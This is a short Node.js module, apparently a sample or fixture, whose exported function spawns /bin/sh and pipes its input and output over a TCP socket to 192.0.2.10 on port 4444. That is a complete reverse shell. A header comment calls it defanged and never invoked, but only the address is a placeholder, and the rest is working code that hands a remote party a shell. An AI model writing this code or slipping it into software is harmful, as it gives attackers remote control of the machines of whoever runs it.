// defanged: documentation address; never invoked
const net = require('net');
const { spawn } = require('child_process');
function connect() {
  const sh = spawn('/bin/sh', []);
  const client = new net.Socket();
  client.connect(4444, '192.0.2.10', () => {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
}
module.exports = connect;
